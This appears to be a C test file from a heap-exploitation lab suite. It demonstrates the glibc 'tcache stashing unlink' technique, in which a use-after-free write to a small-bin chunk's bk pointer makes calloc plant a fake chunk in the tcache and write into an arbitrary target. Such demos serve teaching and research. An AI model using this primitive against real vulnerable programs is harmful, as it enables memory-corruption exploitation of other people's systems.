/*
 * tcache_stashing_unlink.c - corrupt a small-bin chunk's bk, and calloc moves
 * a fake chunk into the tcache, writing the bin's address on the way.
 *
 * When malloc takes a chunk from a small bin and the tcache bin of that size
 * has room, it moves the chunks behind it into the tcache, following bk,
 * without the check it makes on the chunk it returns.  For each chunk moved,
 * it writes bin->bk = chunk->bk and chunk->bk->fd = bin.
 *
 * Two chunks, A and B, in a small bin, A taken first; five in the tcache bin,
 * so there is room for two.  B's bk is set to a fake chunk, whose bk is
 * &target - 2 words.  calloc, which never takes from the tcache, takes A from
 * the small bin (A's neighbour B still points back at A: the check holds);
 * then B is moved into the tcache, and then the fake chunk, which writes the
 * bin's address into target and fills the tcache bin.  The next malloc
 * returns the fake chunk.
 *
 * Works on 2.26 ... 2.36; before 2.26 there is no tcache.
 */
#include "tests/techniques/technique.h"

static size_t target;

int main(void)
{
    technique_begin("tcache_stashing_unlink", "Point a small-bin chunk's bk at a fake chunk: moving the bin into the "
                                              "tcache writes the bin's address into target and caches the fake.");
    if (!release_has_tcache())
        return technique_not_here("the tcache came with glibc 2.26");

    /* The fake chunk, in a larger buffer: moving a chunk into the tcache sets
       the PREV_INUSE bit of "the next chunk", 0x90 bytes further. */
    _Alignas(16) size_t fake[24] = {0};
    fake[3] = (size_t)&target - 2 * sizeof(size_t);

    char *chunks[9];
    for (int i = 0; i < 9; i++) {
        chunks[i] = arenalloc_malloc(0x88);
        arenalloc_malloc(0x18);
    }
    for (int i = 2; i < 9; i++)
        arenalloc_free(chunks[i]);
    char *a = chunks[0], *b = chunks[1];
    arenalloc_free(a);
    arenalloc_free(b);
    say("Nine chunks of 0x90, each with a guard: seven freed fill the tcache bin; A = %p and B = %p go to the",
        (void *)a, (void *)b);
    say("unsorted bin.");
    arenalloc_malloc(0xa8);
    say("malloc(0xa8): neither fits, and the search files both in the 0x90 small bin: A at the back, B before it.");
    arenalloc_malloc(0x88);
    arenalloc_malloc(0x88);
    say("Two mallocs of 0x88 from the tcache: five left, room for two.");

    /* LAB(tech-tcache_stashing_unlink) BEGIN */
    ((size_t *)b)[1] = (size_t)fake;
    /* LAB(tech-tcache_stashing_unlink) END */
    say("A write after free: B->bk = the fake chunk at %p, whose bk is &target - 16.", (void *)fake);

    char *c = arenalloc_calloc(1, 0x88);
    say("calloc(1, 0x88) = %p: A, from the small bin; then B and the fake chunk move into the tcache,", (void *)c);
    say("and moving the fake chunk wrote the bin's address into target: %#zx.", target);

    char *d = arenalloc_malloc(0x88);
    say("malloc(0x88) = %p.", (void *)d);

    return technique_end(c == a && target != 0 && d == (char *)&fake[2],
                         "target holds the bin's address, and malloc returned the fake chunk");
}
